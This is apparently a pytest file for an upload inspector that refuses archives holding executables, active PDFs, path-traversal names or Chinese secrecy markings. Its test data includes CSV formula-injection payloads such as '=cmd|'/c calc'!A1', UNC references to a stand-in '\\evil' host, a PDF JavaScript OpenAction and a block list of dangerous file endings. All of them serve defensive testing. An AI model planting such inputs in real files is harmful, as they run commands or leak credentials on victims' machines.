"""What lies in an archive is judged by its content, not by its name."""

import gzip
import io
import struct
import tarfile
import zipfile

import pytest

from tests.support.hostile_files import OLE2, ole2, open_xml, packed, paragraph, pdf_text, plain_pdf, relationship, word
from tracker.domain.errors import BadInput
from tracker.inspection import refusals
from tracker.inspection.files import ALLOWED, inspect_file
from tracker.wording.refusals import sentence


def _tar() -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"))
    return made.getvalue()


# Kinds that are not taken: what starts or fetches something on a double click, and what nobody here can look through.
_NOT_TAKEN_WORDS = """
    exe dll msi bat cmd js mjs vbs ps1 lnk scr jar hta sh EXE url reg com pif wsf docm xlsb wll xll accde mdb
    html htm xhtml svg xml json md mht mhtml eml msg one rtf library-ms searchConnector-ms application appinstaller
    rdp dqy iqy udl scpt inetloc webloc desktop chm ini dat uof wpt tex bak mp4 heic
"""
_NOT_TAKEN = (*_NOT_TAKEN_WORDS.split(), "of-tomorrow", "txt ", "txt.", "txt\u3000", "pdf.js")
APPLE_DOUBLE = b"\0\x05\x16\x07\0\2\0\0"
_GOOD = {
    "pdf": plain_pdf(),
    **{ending: open_xml(ending) for ending in ("docx", "xlsx", "pptx")},
    "ofd": packed(("OFD.xml", b"<OFD/>")),
    **dict.fromkeys(("doc", "xls", "wps", "et"), ole2()),
    **dict.fromkeys(("jpg", "jpeg"), b"\xff\xd8\xff"),
    "png": b"\x89PNG\r\n\x1a\n",
    "gif": b"GIF89a",
    "bmp": b"BM",
    "txt": b"1",
    "csv": b"1,2",
}  # all but an archive in an archive
_INNER = packed(("a.txt", b"1"))
_REFUSED: dict[str, tuple[str, bytes, type[BadInput]]] = {
    "a zip renamed": ("数据.dat", _INNER, refusals.ArchiveNested),
    "a zip as a picture": ("照片.jpg", _INNER, refusals.ArchiveNested),
    "a zip as a document": ("方案.docx", _INNER, refusals.ContentUnlikeEnding),
    "an empty zip renamed": ("空.dat", packed(), refusals.ArchiveNested),
    "gzip": ("数据.bin1", gzip.compress(b"1"), refusals.ArchiveNested),
    "tar": ("数据.dat", _tar(), refusals.ArchiveNested),
    "rar": ("数据.dat", b"Rar!\x1a\x07\x01\0", refusals.ArchiveNested),
    "7z": ("数据.dat", b"7z\xbc\xaf\x27\x1c", refusals.ArchiveNested),
    "xz": ("数据.dat", b"\xfd7zXZ\0", refusals.ArchiveNested),
    "a program renamed": ("照片.dat", b"MZ\x90\0", refusals.MemberNotAllowed),
    "ELF": ("说明", b"\x7fELF\x02", refusals.MemberNotAllowed),
    "a script of a shell": ("说明.txt", b"#!/bin/sh\n", refusals.ProgramInside),
    "a page that is a script": ("说明.txt", b"\n <SCRIPT>x</SCRIPT>", refusals.ProgramInside),
    "an RTF text": ("说明.doc", b"{\\rtf1\\object}", refusals.ContentUnlikeEnding),
    "an RTF text as a text": ("说明.txt", b"{\\rtf1\\object}", refusals.ContentUnlikeEnding),
    "a PDF as a text": ("说明.txt", plain_pdf(), refusals.ContentUnlikeEnding),
    "an old Office file as a text": ("说明.txt", OLE2, refusals.ContentUnlikeEnding),
    "nothing": ("说明.docx", b"", refusals.EmptyFile),
    "a file without an ending": ("说明", b"x", refusals.MemberNotAllowed),
    "a document of any other kind as Thumbs.db": ("Thumbs.db", b"<script>", refusals.MemberNotAllowed),
    "an old Office file with macros as Thumbs.db": (
        "Thumbs.db",
        ole2({"_VBA_PROJECT": b""}),
        refusals.MacrosInside,
    ),
    "an icon of another machine": (
        "desktop.ini",
        "[.ShellClassInfo]\r\nIconResource=\\\\evil\\a.ico,0".encode("utf-16"),
        refusals.MemberNotAllowed,
    ),
    "a folder of a class": (
        "desktop.ini",
        b"[.ShellClassInfo]\nCLSID={0AFACED1-E828-11D1-9187-B532F1E9575D}",
        refusals.MemberNotAllowed,
    ),
    "a long look of a folder": ("desktop.ini", b"[.ShellClassInfo]\n" * 40, refusals.MemberNotAllowed),
    "a marking in the look of a folder": (
        "desktop.ini",
        "[.ShellClassInfo]\nInfoTip=机密★1年".encode("gbk"),
        refusals.SecrecyMarked,
    ),
    "a program as a lock": ("~$方案.docx", b"MZ".ljust(162, b"\0"), refusals.ContentUnlikeEnding),
    "a page as a lock": ("~$方案.hta", b"\5admin".ljust(162, b"\0"), refusals.MemberNotAllowed),
    "a longer lock": ("~$方案.docx", b"\5admin".ljust(600, b"\0"), refusals.ContentUnlikeEnding),
    "a page of a Mac": ("__MACOSX/._a.hta", APPLE_DOUBLE + b"<script>", refusals.MemberNotAllowed),
    "what a Mac leaves, beside nothing": ("__MACOSX/._b.txt", APPLE_DOUBLE, refusals.ContentUnlikeEnding),
    "a marking in what a Mac leaves": (
        "__MACOSX/._a.txt",
        APPLE_DOUBLE + "机密★".encode("utf-16-be"),
        refusals.SecrecyMarked,
    ),
    "a table that starts a program": ("台账.csv", b"1,=cmd|'/c calc'!A1", refusals.FieldFetches),
    "a marking in the name": ("附件/机密★1年.jpg", b"\xff\xd8\xff", refusals.SecrecyMarked),
    "a marking in UTF-8": ("说明.csv", "编号\n密级：机密\n".encode(), refusals.SecrecyMarked),
    "a marking in GB18030": ("说明.txt", "秘密★".encode("gb18030"), refusals.SecrecyMarked),
    "a marking in Big5": ("說明.txt", "關於方案\n機密★".encode("big5"), refusals.SecrecyMarked),
    "a marking in UTF-16 without a mark": ("说明.csv", "编号,秘密★1年".encode("utf-16-le"), refusals.SecrecyMarked),
    "a marking in Word": ("方案.docx", word(paragraph("机密")), refusals.SecrecyMarked),
    "a marking in PDF": ("方案.pdf", pdf_text("机密★1年", "方案"), refusals.SecrecyMarked),
    "a PDF that acts": ("方案.pdf", plain_pdf(catalog=b"/OpenAction<</S/JavaScript/JS(x)>>"), refusals.PdfActive),
    "a PDF that acts, renamed": ("方案.dat", plain_pdf(), refusals.MemberNotAllowed),
    "a picture that is none": ("照片.png", b"<svg/>", refusals.ContentUnlikeEnding),
    "names that differ in case only": ("A.TXT", b"1", refusals.ArchiveNameUnsafe),
} | {f"a file .{ending}": (f"文件夹/安装.{ending}", b"x", refusals.MemberNotAllowed) for ending in _NOT_TAKEN}


@pytest.mark.parametrize("name", _REFUSED)
def test_what_an_archive_must_not_hold_is_refused(name: str) -> None:
    entry, content, refusal = _REFUSED[name]
    with pytest.raises(refusal) as refused:
        inspect_file(io.BytesIO(packed(("a.txt", b"1"), (entry, content))), ending="zip")
    assert entry in sentence(refused.value)


@pytest.mark.parametrize("ending", sorted(ALLOWED))
def test_a_member_is_taken_where_it_would_be_taken_alone(ending: str) -> None:
    """Nothing lies in an archive that its ending keeps out alone, and nothing is looked at less there."""
    good, bad = _GOOD.get(ending), b"\0 nothing of any kind"
    with pytest.raises(refusals.ContentUnlikeEnding):
        inspect_file(io.BytesIO(bad), ending=ending)
    with pytest.raises(BadInput):
        inspect_file(io.BytesIO(packed((f"a.{ending}", bad))), ending="zip")
    if good is not None:
        inspect_file(io.BytesIO(good), ending=ending)
        inspect_file(io.BytesIO(packed((f"a.{ending.upper()}", good))), ending="zip")


_TEMPLATE_ELSEWHERE = f"<Relationships>{relationship('attachedTemplate', 'http://example.org/t.dotm')}</Relationships>"


@pytest.mark.parametrize(
    "content",
    [
        word("", ("word/_rels/settings.xml.rels", _TEMPLATE_ELSEWHERE.encode())),
        word(paragraph("方案")),
        packed(("OFD.xml", b"<OFD/>")),
        packed(("[content_types].XML", b"<Types/>"), ("a.txt", b"1")),
    ],
)
def test_a_document_is_no_archive_whatever_its_name_says(content: bytes) -> None:
    with pytest.raises(refusals.ContentUnlikeEnding):
        inspect_file(io.BytesIO(content), ending="zip")


def _commented(comment: bytes, *, of_member: bool = False) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        entry = zipfile.ZipInfo("a.txt")
        entry.comment = comment if of_member else b""
        archive.comment = b"" if of_member else comment
        archive.writestr(entry, b"1")
    return made.getvalue()


def _named_beside(name: str, *, kind: int = 0x7075, written: str = "a.txt") -> bytes:
    """Return an archive whose entry has another name, or a comment, in an extra field."""
    made, words = io.BytesIO(), b"\1\0\0\0\0" + name.encode()
    with zipfile.ZipFile(made, "w") as archive:
        entry = zipfile.ZipInfo(written)
        entry.extra = struct.pack("<HH", kind, len(words)) + words
        archive.writestr(entry, b"1" if not written.endswith("/") else b"")
    return made.getvalue()


def _named(name: bytes) -> bytes:
    """Return an archive with a name in any encoding, which says nothing of it."""
    return packed(("x" * len(name), b"1")).replace(b"x" * len(name), name)


@pytest.mark.parametrize(
    "content",
    [
        packed(("机密★1年/a.txt", b"1")),
        packed(("材料/机密★1年/附件/a.txt", b"1")),
        packed(("机密★1年/", b""), ("a.txt", b"1")),
        packed(("材料/【秘密】/", b"")),
        packed(("机密.txt", b"1")),
        packed(("材料/密级：机密.txt", b"1")),
        packed(("机密★1年", b"1")),
        *(_named("机密★/a.txt".encode(encoding)) for encoding in ("utf-8", "gb18030")),
        _named("機密★/a.txt".encode("big5hkscs")),
        *(_commented("机密★1年".encode(encoding)) for encoding in ("utf-8", "gb18030", "utf-16-le")),
        _commented("密级：秘密".encode(), of_member=True),
        _named_beside("机密★.txt"),
        _named_beside("机密★1年", kind=0x6375),
    ],
)
def test_a_marking_is_found_in_all_that_an_archive_says_beside_its_files(content: bytes) -> None:
    with pytest.raises(refusals.SecrecyMarked):
        inspect_file(io.BytesIO(content), ending="zip")


@pytest.mark.parametrize(
    "content",
    [
        _named_beside("a.hta"),
        _named_beside("../a.txt"),
        _named_beside("a", written="a/"),
        _named(b"a/" * 200 + b"a.txt"),
    ],
)
def test_a_name_beside_the_name_leads_no_further(content: bytes) -> None:
    """Some programs unpack an entry by the name in its extra field."""
    with pytest.raises(refusals.ArchiveNameUnsafe):
        inspect_file(io.BytesIO(content), ending="zip")


@pytest.mark.parametrize(
    ("table", "passes"),
    [
        ("序号,增长\n1,-5%\n2,+86 396 2811111\n3,@张三（办公室）\n4,=SUM(B2:B3)\n5,- 推进(二期)\n", True),
        ('1,"做好，抓实"\n2,5" 屏\n', True),
        ("1,=cmd|'/c calc'!A1", False),
        ("a;b\n1;+cmd|'/c calc'!A1", False),
        ("1\t @SUM(1+9)*cmd|' /C calc'!A0", False),
        ('1,"=HYPERLINK(""file:///c:/a.exe"",""详见"")"', False),
        ("1,＝WEBSERVICE(A1)", False),
        ("1,-WEBSERVICE(A1)", False),
        ("='\\\\evil\\a\\[b.xls]S'!A1", False),
    ],
)
def test_a_table_as_text_computes_what_a_workbook_may_compute(table: str, passes: bool) -> None:
    for content in (table.encode("utf-8-sig"), table.encode("gb18030")):
        if passes:
            assert inspect_file(io.BytesIO(content), ending="csv") == "text/csv"
        else:
            with pytest.raises(refusals.FieldFetches):
                inspect_file(io.BytesIO(content), ending="csv")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "gb18030", "big5hkscs"])
@pytest.mark.parametrize("words", ["關於印發方案的通知 機密★", "關於印發方案的通知\n機密\n特急"])
def test_a_text_is_looked_through_in_every_encoding_it_may_be_in(encoding: str, words: str) -> None:
    with pytest.raises(refusals.SecrecyMarked):
        inspect_file(io.BytesIO(words.encode(encoding)), ending="txt")
    plain = words.replace("機密", "機要").encode(encoding)
    assert inspect_file(io.BytesIO(plain), ending="txt") == "text/plain"


def test_an_archive_of_what_may_be_handed_in_passes() -> None:
    """With what systems leave in folders, and names in GBK or in UTF-8 that does not say so."""
    for name in ("材料/方案.txt".encode("gbk"), "材料/方案.txt".encode(), "材料/誠.txt".encode("gbk")):
        inspect_file(io.BytesIO(_named(name)), ending="zip")
    inspect_file(io.BytesIO(_commented("WinRAR压缩".encode("gbk"))), ending="zip")
    inspect_file(io.BytesIO(_named_beside("方案.txt", written="____.txt")), ending="zip")
    good = packed(
        ("材料/", b""),
        ("材料/方案.docx", word(paragraph("工作方案"))),
        ("材料/方案.pdf", plain_pdf()),
        ("材料/现场.jpg", b"\xff\xd8\xff"),
        ("材料/空/", b""),
        ("材料/关于机密文件管理的说明/清单.TXT", "保守国家秘密".encode()),
        ("材料/截图.bmp", b"BM...."),
        ("材料/旧稿.wps", ole2()),
        ("材料/旧表.et", ole2()),
        ("材料/版式.ofd", packed(("OFD.xml", b"<OFD/>"))),
        ("材料/Thumbs.db", ole2({"256_1a2b": b""})),
        (
            "材料/desktop.ini",
            "\r\n[.ShellClassInfo]\r\nLocalizedResourceName=@%SystemRoot%\\a.dll,-1\r\n".encode("utf-16"),
        ),
        ("材料/空/Desktop.ini", b"[.ShellClassInfo]\r\nIconFile=C:\\a.ico\r\nIconIndex=0\r\n[ViewState]\r\nMode=\r\n"),
        ("材料/~$方案.docx", b"\5admin".ljust(162, b"\0")),
        ("材料/~$台账.xlsx", b"\5admin".ljust(165)),
        ("材料/.DS_Store", b"\0\0\0\x01Bud1\0"),
        ("__MACOSX/._材料", APPLE_DOUBLE),
        ("__MACOSX/材料/._空", APPLE_DOUBLE),
        ("__MACOSX/材料/._方案.docx", APPLE_DOUBLE + b"\0\2\0\0Mac OS X"),
        ("材料/._方案.pdf", APPLE_DOUBLE),
        ("材料/台账.csv", "序号,事项\n1,保守国家秘密\n".encode("gb18030")),
    )
    assert inspect_file(io.BytesIO(good), ending="zip") == "application/zip"
